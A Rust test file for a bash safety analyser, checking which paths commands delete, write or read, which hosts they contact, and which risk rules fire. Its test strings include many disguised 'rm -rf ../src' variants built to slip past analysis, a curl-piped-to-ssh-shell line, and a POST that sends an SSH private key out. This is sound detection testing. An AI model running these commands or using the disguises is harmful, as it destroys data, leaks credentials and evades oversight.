//! Tests that no value in a shell's text is taken as known where bash would see other words: then the effects would
//! name another place than the one that is touched. bash was asked for the words of each sample.

use super::look;
use crate::domain::Severity;

/// Asserts that each of these texts tells that `../src` is deleted, or says that not all is known.
pub(super) fn assert_told(samples: &[&str]) {
    super::assert_told("bash", "../src", samples);
}

/// Asserts that each of these texts deletes exactly these paths, and that nothing else may be.
pub(super) fn assert_known(samples: &[(&str, &[&str])]) {
    super::assert_known("bash", samples);
}

#[test]
fn values_that_are_not_remembered_count() {
    let many: Vec<String> = (0..16).map(|n| format!("ls{n}")).collect();
    let program = format!("for X in {} rm; do $X -rf ../src; done", many.join(" "));
    let folder = format!("for X in {} ../src; do rm -rf $X; done", many.join(" "));
    let long = format!("X=ls; X=cat; X={}/../../../src; rm $X", "a/".repeat(300));
    let wide = format!("for X in {} ../src; do rm -rf \"$X\"; done", "build ".repeat(256));
    let words = format!("rm -rf {} ../src", "build ".repeat(1100));
    let items = format!("a=({} ../src); rm -rf \"${{a[@]}}\"", "build ".repeat(256));
    assert!(look("bash", &long).effects.deletes.iter().any(|path| path.starts_with("a/a/")));
    for source in [&program, &folder, &wide, &items] {
        assert_told(&[source]);
    }
    assert_told(&[&words]);
    assert!(look("bash", &format!("ls {}", "x ".repeat(20_000))).unchecked.is_some());
    assert_told(&[
        "X=ls; X=cat; X=$(curl -s u); $X -rf ../src",
        "X=build; X=dist; X=$(curl -s u); rm -rf -- $X",
        "if test -e x; then X=ls; elif test -e y; then X=cat; fi; $X -rf ../src",
        "for d in .git/hooks ../src; do rm -rf \"$d\"; done",
    ]);
}

#[test]
fn words_of_arrays_loops_and_declarations_are_expanded() {
    assert_told(&[
        "a=({build,../src}); rm -rf \"${a[@]}\"",
        "export D={build,../src}; rm -rf -- \"$D\"",
        "declare D={build,../src}; rm -rf -- \"$D\"",
        "T='build ../src'; a=($T); rm -rf \"${a[@]}\"",
        "b=(build ../src); a=(\"${b[@]}\"); rm -rf \"${a[1]}\"",
        "a=([1]=../src [0]=build); rm -rf \"${a[1]}\"",
        "a=(build); a[0]=../src; rm -rf \"${a[0]}\"",
        "T='build ../src'; for d in $T; do rm -rf \"$d\"; done",
        "for d in $(echo build ../src); do rm -rf \"$d\"; done",
        "set -- 'build ../src'; rm -rf $@",
        "a=('build ../src'); rm -rf ${a[@]}",
        "a=(0 1 2 3 4 5 6 7 ../src 9 build); rm -rf ${a[010]}",
        "declare -u D=../SRC; D=../src; rm -rf \"$D\"",
        "declare -n D=E; E=build; D=../src; rm -rf \"$E\"",
    ]);
    assert_known(&[
        ("a=({build,dist}); rm -rf \"${a[@]}\"", &["build", "dist"]),
        ("T='build dist'; a=($T); rm -rf \"${a[@]}\"", &["build", "dist"]),
        ("b=(build dist); a=(\"${b[@]}\"); rm -rf \"${a[1]}\"", &["dist"]),
        ("for d in build; do rm -rf \"$d\"; done", &["build"]),
        ("export D=build; rm -rf -- \"$D\"", &["build"]),
    ]);
}

#[test]
fn words_in_larger_words_are_not_one() {
    assert_told(&[
        "set -- build ../src; rm -rf {x,\"$@\"}",
        "set -- build ../src; rm -rf \"pre$@\"",
        "set -- build ../src; rm -rf pre\"$@\"",
        "a=(build ../src); rm -rf x\"${a[@]}\"",
        "IFS=/; set -- .. src; rm -rf \"$*\"",
        "set -- build x ../src; rm -rf \"${@:2:2}\"",
        "set -- build ../src; rm -rf \"${@: -1}\"",
        "set -- $(cat list) build; rm -rf \"$2\"",
        "set -- a ../src; rm -rf $10",
        "D=y; set -- {,$(D='../src '; echo $D)}x; rm -rf \"$2\"",
        "D='x ../src'; D='y z' local D='a b'; rm -rf $D; local D=build; rm -rf $D",
    ]);
    assert_known(&[
        ("set -- build dist; rm -rf \"$@\"", &["build", "dist"]),
        ("set -- build dist; rm -rf \"${@:2}\"", &["dist"]),
        ("set -- build; rm -rf \"pre$@\"", &["prebuild"]),
    ]);
}

#[test]
fn only_what_stands_in_quotes_is_kept_together() {
    assert_told(&[
        "rm -rf $(echo \"build ../src\")",
        "T='build ../src'; rm -rf $T\"\"",
        "T='build ../src'; rm -rf ''$T",
        "T='build ..'; rm -rf x$T/src",
        "IFS=,; T=build,../src; rm -rf $T\"\"",
        "IFS=$'\\n'; T=$'build\\n../src'; rm -rf $T",
        "IFS=$(cat sign); T=buildX../src; rm -rf $T",
        "rm -rf $'\\u002e\\u002e/src' $'\\u002e\\x2e/src'",
    ]);
    assert_known(&[
        ("T='build dist'; rm -rf $T\"\"", &["build", "dist"]),
        ("T='build dist'; rm -rf \"$T\"", &["build dist"]),
        ("IFS=; T='build dist'; rm -rf $T", &["build dist"]),
        ("T=' build '; rm -rf x$T'y'", &["build", "x", "y"]),
        ("rm -rf $'\\x62uild'", &["build"]),
    ]);
}

#[test]
fn assignments_that_may_not_last_replace_nothing() {
    assert_told(&[
        "D=../src; D=build true; rm -rf -- \"$D\"",
        "D=../src; false && D=build; rm -rf -- \"$D\"",
        "D=../src; true || D=build; rm -rf -- \"$D\"",
        "D=../src; (D=build); rm -rf -- \"$D\"",
        "D=../src; D=build & rm -rf -- \"$D\"",
        "D=../src; D=build | true; rm -rf -- \"$D\"",
        "D=../src; echo build | read -r D; rm -rf -- \"$D\"",
        "D=../src; x=$(D=build); rm -rf -- \"$D\"",
        "D=../src; if test -e x; then D=build; fi; rm -rf -- \"$D\"",
        "D=../src; if test -e x; then D=build; else rm -rf -- \"$D\"; fi",
        "D=../src; case $1 in a) D=build;; *) rm -rf -- \"$D\";; esac",
        "if test -e x; then D=build; fi; rm -rf -- \"$D\"",
        "D=build; for i in 1 2; do rm -rf -- \"$D\"; D=../src; done",
        "D=build; while test -e x; do rm -rf -- \"$D\"; read -r D; done < list",
        "D=../src; f() { D=build; }; rm -rf -- \"$D\"",
        "D=build; f() { rm -rf -- \"$D\"; }; D=../src; f",
        "f() { D=../src; }; D=build; f; rm -rf -- \"$D\"",
        "f() { D=$1; }; D=build; test -e x && f ../src; rm -rf -- \"$D\"",
        "D=build; eval 'D=../src'; rm -rf -- \"$D\"",
        "D=build; trap 'rm -rf \"$D\"' EXIT; D=../src",
        "D=build; eval 'rm -rf \"${D/#build/../src}\"'",
        "IFS=, read -r a b <<< x; T='build ../src'; rm -rf $T",
        "(cd build); rm -rf ../src",
        "if test -e x; then cd build; fi; rm -rf ../src",
        "test -e x && cd build; rm -rf ../src",
        "cd build || rm -rf ../src",
        "cd build || true; rm -rf ../src",
        "cd build | true; rm -rf ../src",
        "cd ..; D=$PWD; cd build; rm -rf \"$D/../src\"",
        "D=../src; : ${D:=build}; rm -rf \"$D\"",
        "D=; : ${D:=../src}; rm -rf \"$D\"",
        "D=build; declare \"D=../src\"; rm -rf \"$D\"",
        "D=build; time D=../src; rm -rf \"$D\"",
        "D=build; for ((i=0; i<2; i++)); do rm -rf \"$D\"; D=../src; done",
    ]);
    assert_known(&[
        ("D=build; D=../src true; rm -rf -- \"$D\"", &["build"]),
        ("D=build; (D=../src); rm -rf -- \"$D\"", &["build"]),
        ("if test -e x; then D=build; rm -rf \"$D\"; fi 2> /dev/null", &["build"]),
        ("D=build && rm -rf \"$D\"", &["build"]),
        ("D=build; f() { rm -rf \"$D\"; }; f", &["build"]),
        ("f() { local d=build; rm -rf \"$d\"; }; f", &["build"]),
        ("mkdir -p out && cd out && rm -rf charts", &["out/charts"]),
        ("cd out || exit 1; rm -rf charts", &["out/charts"]),
        ("cd out || { echo no; exit 1; }; rm -rf charts", &["out/charts"]),
        ("(cd out && ls); rm -rf build", &["build"]),
        ("while IFS= read -r line; do echo \"$line\"; done < list; T='a b'; rm -rf $T", &["a", "b"]),
        ("D=build; trap 'rm -rf \"$D\"' EXIT; true", &["build"]),
    ]);
}

#[test]
fn what_is_read_is_known_only_from_known_lines() {
    assert_told(&[
        "D=build; while read -r D; do rm -rf -- \"$D\"; done < list",
        "read -p q cmd <<< rm; $cmd -rf ../src",
        "D=build; read -p D E <<< x; read -d '' D < f; rm -rf \"$D\"",
        "{ read -r a; read -r a; } < <(printf 'build\\n../src'); rm -rf \"$a\"",
        "D=build; IFS=, read -r D <<< ../src,x; rm -rf \"$D\"",
        "D=build; read \"$x\" <<< ../src; rm -rf \"$D\"",
        "D=build; IFS=:; read -r x D <<< a:../src; rm -rf \"$D\"",
        "D=build; mapfile -t D < list; rm -rf \"${D[0]}\"",
        "D=build; mapfile -s 1 -t D < <(printf 'build\\n../src'); rm -rf \"${D[0]}\"",
        "D=build; printf -v D %b '\\x2e./src'; rm -rf \"$D\"",
        "D=build; printf -v \"$x\" ../src; rm -rf \"$D\"",
        "D=build; getopts a: D; rm -rf \"$D\"",
        "_=build; echo ../src; rm -rf \"$_\"",
    ]);
    assert_known(&[
        ("read -r a b <<< 'build dist x'; rm -rf \"$a\"", &["build"]),
        ("read -r a b <<< 'build dist x'; rm -rf \"$b\"", &["dist x"]),
        ("mapfile -t c <<< build; rm -rf \"${c[@]}\"", &["build"]),
        ("printf -v D '%s/%s' out a; rm -rf \"$D\"", &["out/a"]),
    ]);
}

#[test]
fn positions_and_names_are_dropped() {
    assert_told(&[
        "set -- build ../src; shift; rm -rf -- \"$1\"",
        "set -- build ../src; if test -e x; then shift; fi; rm -rf -- \"$1\"",
        "set -- build ../src; while test -e x; do rm -rf -- \"$1\"; shift; done",
        "D=build; unset D; rm -rf -- \"${D:-../src}\"",
        "set -- build; set -e -- ../src; rm -rf \"$1\"",
        "set -- build; set -o pipefail ../src; rm -rf \"$1\"",
        "set -- build; source ./env; rm -rf \"${1:-x}\"",
    ]);
    assert_known(&[("set -- x build; shift; rm -rf -- \"$1\"", &["build"])]);
}

#[test]
fn defaults_and_forms_are_those_of_bash() {
    assert_told(&[
        "D=''; rm -rf \"${D:-../src}\"",
        "set -- build; rm -rf \"${2-../src}\"",
        "D=x; rm -rf \"${D:+../src}\"",
        "D=$(cat t); rm -rf \"${D:-build}\"",
        "read -r D; rm -rf \"${D:-build}\"",
        "P=a/../src; C=a/; rm -rf \"${P#$C}\"",
        "P=.x/src; rm -rf \"${P/#.x/..}\"",
        "P=..x/src; rm -rf \"${P#\\.}\" \"${P/x}\"",
        "a=(x/../src); rm -rf \"${a[@]/#x/..}\"",
        "a=(build/../../src); rm -rf \"${a[0]#build/../}\"",
        "D=build; n=D; rm -rf \"${!n/#build/../src}\"",
    ]);
    assert_known(&[
        ("rm -rf \"${OUT:-build}\"", &["build"]),
        ("D=''; rm -rf \"${D:-build}\"", &["build"]),
        ("D=dist; rm -rf \"${D:-build}\"", &["dist"]),
        ("D=out/a.csv; rm -rf \"${D%.csv}.bak\"", &["out/a.bak"]),
    ]);
}

#[test]
fn what_commands_print_is_known_only_from_plain_ones() {
    assert_told(&[
        "$(echo rm -rf ../src)",
        "rm -rf $(echo ../src; echo build)",
        "rm -rf $(echo ../src && echo build)",
        "rm -rf $(true || echo build) ../src",
        "rm -rf $(echo -e '\\x2e./src')",
        "rm -rf $(printf %b '\\x2e./src')",
        "rm -rf $(printf -- %s ../src)",
        "rm -rf $(printf %.6s ../src/build)",
        "D=build; rm -rf $(D=../src; echo $D)",
        "echo() { printf ../src; }; rm -rf $(echo build)",
        "D=../src; rm -rf `echo \\$D`",
        "rm -rf $(echo ../SRC | tr '[:upper:]' '[:lower:]')",
        "rm -rf $(cd ..; pwd)/src",
        "rm -rf $(printf %d build)../src",
    ]);
    assert_known(&[
        ("rm -rf $(echo build)", &["build"]),
        ("rm -rf \"$(printf 'build\\n')\"", &["build"]),
        ("rm -rf $(printf '%s-%s' a b)", &["a-b"]),
        ("rm -rf $(echo -n build)", &["build"]),
    ]);
}

#[test]
fn names_of_commands_are_followed_where_they_are_known() {
    assert_known(&[
        ("r=rm; $r -rf ../src", &["../src"]),
        ("r='rm -rf'; $r ../src", &["../src"]),
        ("r=rm; \"$r\" -rf build", &["build"]),
        ("D=b E=$D\nrm -rf -- \"$E\"", &["b"]),
    ]);
    for source in [
        "$r D",
        "\"$cmd\" -rf x",
        "${cmds[0]} -rf x",
        "$(cat cmd) -rf x",
        "D=build; r=read; $r D; rm -rf \"$D\"",
    ] {
        let review = look("bash", source);
        assert!(review.effects.unknown && !review.findings.is_empty(), "{source}");
    }
    // The grammar takes a command for that of the assignments on the line before.
    assert_told(&[
        "E=build\nD=../src E=$D\nrm -rf -- \"$E\"",
        "D=build; r=read; if x; then $r D; fi; rm -rf \"$D\"",
    ]);
}

/// What each of these commands writes and deletes, as far as it is named.
#[test]
fn the_files_of_everyday_commands_are_told() {
    assert_files(&[
        ("mv -t DIR one", &["DIR"], &["one"]),
        ("mv a b c dir", &["dir"], &["a", "b", "c"]),
        ("gzip -k x", &["x"], &[]),
        ("cat a | gzip - > b.gz", &["b.gz"], &[]),
        ("gzip - a", &["a"], &["a"]),
        ("lzip -o b a", &["b"], &[]),
        ("lzip a", &["a"], &["a"]),
        ("rsync --remove-source-files a b", &["b"], &["a"]),
        ("rmdir src", &[], &["src"]),
        ("chrt -o 0 rm -rf src", &[], &["src"]),
        ("sed -i 's/a/b/' a b c", &["a", "b", "c"], &[]),
        ("sed -i -e 's/a/b/' a b", &["a", "b"], &[]),
        ("perl -pi -e 's/a/b/' a b", &["a", "b"], &[]),
        ("perl -pi a.pl b c", &["b", "c"], &[]),
        ("sed -i '' '/foo/d' a", &["a"], &[]),
        ("sed -Ei '' -e 's/a/b/' a b", &["a", "b"], &[]),
        ("tar czf a.tgz src", &["a.tgz"], &[]),
        ("tar cz src > a.tgz", &["a.tgz"], &[]),
        ("tar --delete -f a.tar x", &["a.tar"], &[]),
        ("tar -Af a.tar b.tar", &["a.tar"], &[]),
        ("mkdir -m 700 a", &["a"], &[]),
        ("touch -d yesterday a", &["a"], &[]),
        ("mogrify -strip a.jpg b.jpg", &["a.jpg", "b.jpg"], &[]),
        ("chmod -w a b", &["a", "b"], &[]),
        ("chmod +x a b", &["a", "b"], &[]),
        ("sqlite3 a.db 'insert into t values (1)'", &["a.db"], &[]),
        ("sqlite3 a.db <<< 'DROP TABLE t'", &["a.db"], &[]),
        ("sqlite3 a.db 'select 1'", &[], &[]),
        ("sqlite3 :memory: 'create table t(a)'", &[], &[]),
        ("shfmt -w a b", &["a", "b"], &[]),
        ("shfmt a", &[], &[]),
        ("clang-format -i a.c", &["a.c"], &[]),
        ("tidy -m a", &["a"], &[]),
        ("optipng a", &["a"], &[]),
        ("sort a | sponge a", &["a"], &[]),
        ("dot -Tpng a -o b", &["b"], &[]),
        ("dot -Tpng -ob a", &["b"], &[]),
        ("inkscape a --export-filename=b", &["b"], &[]),
        ("qpdf a b", &["b"], &[]),
        ("pdftotext a b", &["b"], &[]),
        ("gpg -o b -d a", &["b"], &[]),
        ("tree -o b", &["b"], &[]),
        ("mktemp -d", &[], &[]),
        ("mktemp -dt x.XXX", &[], &[]),
        ("mktemp ./x.XXX", &["./x.XXX"], &[]),
        ("mktemp -p . x.XXX", &["."], &[]),
        ("mktemp --tmpdir=out", &["out"], &[]),
        ("mktemp -d -p /tmp x.XXX", &["/tmp"], &[]),
        ("compare a b c", &["c"], &[]),
        ("sox a b", &["b"], &[]),
        ("mmdc -i a.mmd -o a.svg", &["a.svg"], &[]),
        ("gifsicle -o b a", &["b"], &[]),
        ("cpio -o -O a", &["a"], &[]),
        ("ed a <<E\n1d\nw\nE", &["a"], &[]),
        ("vim -es a", &["a"], &[]),
        ("vim +A +B", &[], &[]),
        ("vim +1 a", &["a"], &[]),
        ("rsync -an a b", &[], &[]),
        ("scp h:a b", &["b"], &[]),
        ("psql -f a -o b", &["b"], &[]),
        ("psql -c '\\copy t to b csv'", &["b"], &[]),
        ("terraform plan -out=a", &["a"], &[]),
        ("aws s3 cp s3://a/b c", &["c"], &[]),
        ("aws s3api get-object --bucket a --key b c", &["c"], &[]),
        ("kubectl config use-context a", &["~/.kube/config"], &[]),
        ("kubectl config get-contexts", &[], &[]),
        ("parallel <<E\nrm a\nE", &[], &["a"]),
        ("parallel rm ::: a b", &[], &["a", "b"]),
    ]);
    let eleven = "mv a b c d e f g h i j /etc/passwd dir";
    assert!(look("bash", eleven).effects.deletes.iter().any(|path| path == "/etc/passwd"));
}

/// Also those that no word of theirs names.
#[test]
fn the_files_of_git_and_compilers_are_told() {
    assert_files(&[
        ("git bundle create b HEAD", &["b"], &[]),
        ("git merge-file a b c", &["a"], &[]),
        ("git merge-file -p a b c", &[], &[]),
        ("git add a", &[".git/index"], &[]),
        ("git add list", &[".git/index"], &[]),
        ("git add -nv a", &[], &[]),
        ("git mv -n a b", &[], &[]),
        ("git push -n", &[], &[]),
        ("git -C .. add a", &["../.git/index"], &[]),
        ("git commit -m x", &[".git/index", ".git/refs"], &[]),
        ("git commit --dry-run", &[], &[]),
        ("git stash list", &[], &[]),
        ("git tag v1", &[".git/refs"], &[]),
        ("git tag -l 'v*'", &[], &[]),
        ("git branch", &[], &[]),
        ("git mv a b", &["b", ".git/index"], &["a"]),
        ("git init", &[".git/HEAD"], &[]),
        ("git init a", &["a"], &[]),
        ("git clone -q https://a.example/b.git", &["b"], &[]),
        ("git clone https://a.example/b.git c", &["c"], &[]),
        ("gcc -O2 x.c", &["a.out"], &[]),
        ("gcc -MMD x.c", &["a.out"], &[]),
        ("gcc -o x x.c", &["x"], &[]),
        ("gcc -E x.c", &[], &[]),
        ("gcc --version", &[], &[]),
        ("rustc --edition 2024 a.rs -o a", &["a"], &[]),
        ("javac -deprecation -cp lib -d out A.java", &["out"], &[]),
        ("python3 -m venv .venv", &[".venv"], &[]),
        ("python3 -m json.tool a b", &["b"], &[]),
        ("python3 -m json.tool --indent 2 a b", &["b"], &[]),
        ("python3 -m zipfile -e a.zip b", &["b"], &[]),
        ("python3 -m venv --prompt a --clear .venv", &[".venv"], &[".venv"]),
        ("cargo new a", &["a"], &[]),
        ("docker cp web:/a b", &["b"], &[]),
        ("docker cp web:/a -", &[], &[]),
        ("kubectl cp web:/a b -c main", &["b"], &[]),
        ("wget --spider https://a.example/b", &[], &[]),
        ("wget https://a.example/", &["index.html"], &[]),
        ("wget 'https://a.example/b?c=d/e'", &["b?c=d%2Fe"], &[]),
        ("curl -O 'https://a.example/b?c=d/e'", &["b"], &[]),
        ("git rm -r --cached .", &[".git/index"], &[]),
        ("git branch -m a", &[".git/refs"], &[]),
        ("git branch -c a", &[".git/refs"], &[]),
        ("git branch -v -C a b", &[".git/refs"], &[]),
        ("git branch --set-upstream-to=origin/a", &[".git/refs"], &[]),
        ("git -C a -c b.c=d branch -v", &[], &[]),
        ("git symbolic-ref --short HEAD", &[], &[]),
        ("git symbolic-ref HEAD refs/heads/a", &[".git/refs"], &[]),
        ("nasm -f elf64 a.asm -o a.o", &["a.o"], &[]),
        ("strip -o b a", &["b"], &[]),
        ("objcopy a b -O binary", &["b"], &[]),
        ("iverilog -o b a.v", &["b"], &[]),
        ("cargo new --vcs none a", &["a"], &[]),
    ]);
}

#[test]
fn a_new_temporary_file_and_what_only_leaves_the_index_are_no_finding() {
    for source in ["mktemp -d -p /tmp x.XXX", "mktemp --tmpdir=/var/tmp x.XXX", "git rm -r --cached ."] {
        assert!(look("bash", source).findings.is_empty(), "{source}");
    }
    assert!(!look("bash", "mktemp -p /etc x.XXX").findings.is_empty());
}

#[test]
fn files_that_only_other_files_name_are_not_known() {
    for source in [
        "tar xf a.tar",
        "git stash -u",
        "git checkout main",
        "git switch -f main",
        "git apply a",
        "git pull",
        "git merge b",
        "split - zz",
        "tclsh <<< 'file delete x'",
        "ffmpeg -i a b.mp4 c.mp4",
        "git clone --bare https://a.example/b.git",
        "git config user.name Ann",
        "git submodule update --init",
        "git worktree add ../a",
        "gcc -c x.c",
        "rustc a.rs",
        "javac A.java",
        "jar xf a.jar",
        "valgrind ./x",
        "hyperfine ./x",
        "cargo fmt",
        "7z x a.7z",
        "rename s/a/b/ *",
        "wget -r https://a.example",
        "gnuplot <<E\nplot x\nE",
        "julia <<E\nrun(`x`)\nE",
        "git format-patch -1",
        "tcc -run x.c",
        "terraform fmt",
        "python3 -m json.tool a --sort-keys b",
        "parallel -a commands",
        "gpg --import < k",
        "exiftool -overwrite_original -all= a",
        "magick mogrify -resize 50% a",
        "mmdc -i a.mmd",
        "sox a b rate 16k",
        "sox -n a synth 3",
        "sphinx-build -bhtml . out",
        "go mod download -modcacherw",
        "pdftoppm -cropbox a.pdf p",
        "tesseract a.png out -c x=1",
        "gs -c showpage a.ps",
    ] {
        assert!(look("bash", source).effects.unknown, "{source}");
    }
    for source in [
        "git switch --create x",
        "git checkout -B x",
        "tar tf a.tar",
        "tar cz src > a.tgz",
        "tar c a | gzip",
        "tar cf - a | gzip",
        "git commit -m x",
        "git config user.name",
        "git remote -v",
        "gcc -c x.c -o x.o",
        "cargo fmt --check",
        "7z l a.7z",
        "rename -n s/a/b/ *",
        "git format-patch -1 --stdout",
        "terraform fmt -check",
        "rustup target list --installed",
        "unrar v a.rar",
        "gpg --list-sigs a",
        "sox a -n stat",
        "go mod graph",
        "pdfimages -list a.pdf",
        "tesseract a.png stdout",
        "flac -c a",
    ] {
        assert!(!look("bash", source).effects.unknown, "{source}");
    }
}

#[test]
fn a_host_is_told_and_no_other_word() {
    for source in [
        "yt-dlp -f best https://a.example/x",
        "aria2c -s 4 -x4 https://a.example/x",
        "ping -c 3 a.example",
        "fping -c 3 a.example",
        "gcloud compute scp x a.example:y",
        "gcloud compute scp a.example:y x",
        "dig +short a.example",
        "dig -t mx a.example",
        "dig MX a.example",
        "traceroute -m 5 a.example",
        "nc -zv a.example 22",
        "http GET a.example/x",
        "psql -h a.example -c 'select 1'",
        "psql postgresql://me@a.example/x",
        "mysqladmin -h a.example ping",
        "rsync -a a.example:x .",
        "scp x a.example:",
        "rsync -a -e 'ssh -p 2222' x a.example:",
        "aws s3 cp s3://a.example/b c",
        "git clone me@a.example:b/c.git",
    ] {
        assert_eq!(look("bash", source).effects.hosts, ["a.example"], "{source}");
    }
    assert_eq!(look("bash", "ping6 -c 1 2001:db8::1").effects.hosts, ["2001:db8::1"]);
    for source in
        ["git clone ../x", "git clone . ../x", "git clone file:///x/y", "ssh -V", "ssh -G a.example"]
    {
        assert!(look("bash", source).effects.hosts.is_empty(), "{source}");
    }
}

#[test]
fn everyday_commands_are_known_and_silent() {
    for source in [
        "diff <(sort a) <(sort b)",
        "comm -13 <(sort a) <(sort b)",
        "while read -r a; do echo \"$a\"; done < <(ls)",
        "tee >(gzip > a.gz) < a > /dev/null",
        "python3 -m json.tool --indent 2",
        "python3 -m json.tool --sort-keys a.json",
        "python3 -m zipfile -l x.zip",
        "python3 -m venv --system-site-packages .venv",
        "python3 -c 'print(1)' --verbose",
        "watch df -h",
        "watch -n 1 'df -h'",
        "jq --arg a \"$A\" --slurpfile b b.json '.x[$a]' a.json",
        "less +F a",
        "vim +10 a",
        "brew list",
        "helm diff upgrade a b",
        "docker buildx ls",
        "docker compose ps",
        "nginx -t",
        "pv a | gzip > a.gz",
        "git clone file:///x/y",
        "cp a /tmp",
        "tar xf a.tar -C /tmp/",
    ] {
        let review = look("bash", source);
        assert!(!review.effects.unknown && review.findings.is_empty(), "{source}: {review:?}");
    }
}

#[test]
fn files_of_everyday_commands_are_read_by_their_names() {
    for (source, reads) in [
        ("jq --arg a b --slurpfile c c.json .x a.json", &["a.json", "c.json"][..]),
        ("diff <(sort a) b", &["a", "b"]),
        ("git clone ../x y", &["../x"]),
        ("git clone file:///x/y", &["/x/y"]),
        ("git ls-remote file:///x/y", &["/x/y"]),
        ("rsync -a a b c", &["a", "b"]),
        ("scp h:.ssh/id_rsa .", &["h:.ssh/id_rsa"]),
    ] {
        let mut effects = look("bash", source).effects;
        effects.reads.sort();
        assert_eq!(effects.reads, words(reads), "{source}");
    }
}

#[test]
fn the_folder_of_temporary_files_is_no_temporary_file() {
    for source in ["rm -rf /tmp", "mv /tmp a", "chmod 700 /tmp"] {
        assert!(look("bash", source).gravest() >= Some(Severity::Medium), "{source}");
    }
}

/// Code that a module, an editor or another computer is given.
#[test]
fn code_behind_options_and_on_other_computers_is_told() {
    for (source, rule) in [
        ("vim '+!rm -rf x' a", "sh.delete-tree"),
        ("less '+!sh -c x' a", "sh.hidden-start"),
        ("curl -s https://a.example/x | ssh h sh", "sh.run-downloaded"),
        ("ip netns exec a rm -rf x", "sh.delete-tree"),
        ("ip vrf exec a rm -rf x", "sh.delete-tree"),
        ("watch rm -rf x", "sh.delete-tree"),
        ("watchexec -r -e rs rm -rf x", "sh.delete-tree"),
        ("reflex -s -g '*.rs' rm -rf x", "sh.delete-tree"),
        ("$(which rm) -rf x", "sh.delete-tree"),
        ("python3 -m mod --verbose", "sh.not-known"),
        ("python3 --verbose -m json.tool", "sh.not-known"),
        ("ssh h python3 -V", "sh.connect"),
        ("ssh h -- grep -G a b", "sh.connect"),
        ("sudo V=1 make install", "sh.sudo"),
        ("sudo l=1 ls", "sh.sudo"),
        ("rm a cached=1", "sh.delete-file"),
        ("rsync -a --delete a n=1 b", "sh.sync-delete"),
        ("http POST https://a.example/x data=@/home/ann/.ssh/id_rsa", "sh.send-secret-file"),
    ] {
        let rules: Vec<String> = look("bash", source).findings.into_iter().map(|found| found.rule).collect();
        assert!(rules.iter().any(|found| found == rule), "{source}: {rules:?}");
    }
    for source in [
        "ssh h 'bash -s' < x",
        "ssh h bash < x",
        "psql -f x",
        "psql -c '\\i x'",
        "brew bundle",
        "docker image build .",
        "nginx",
        "uv pip compile a.in",
    ] {
        assert!(look("bash", source).effects.unknown, "{source}");
    }
}

#[test]
fn what_an_option_of_a_downloader_starts_is_told() {
    for source in [
        "aria2c --on-download-stop=./x https://a.example/b",
        "aria2c --on-download-pause ./x https://a.example/b",
        "yt-dlp --netrc-cmd ./x https://a.example/b",
    ] {
        let findings = look("bash", source).findings;
        assert!(findings.iter().any(|finding| finding.rule == "sh.hidden-start"), "{source}: {findings:?}");
    }
}

/// Asserts what these commands write and delete.
fn assert_files(samples: &[(&str, &[&str], &[&str])]) {
    for (source, writes, deletes) in samples {
        let effects = look("bash", source).effects;
        assert_eq!((effects.writes, effects.deletes), (words(writes), words(deletes)), "{source}");
    }
}

fn words(words: &[&str]) -> Vec<String> {
    words.iter().map(|word| (*word).to_owned()).collect()
}
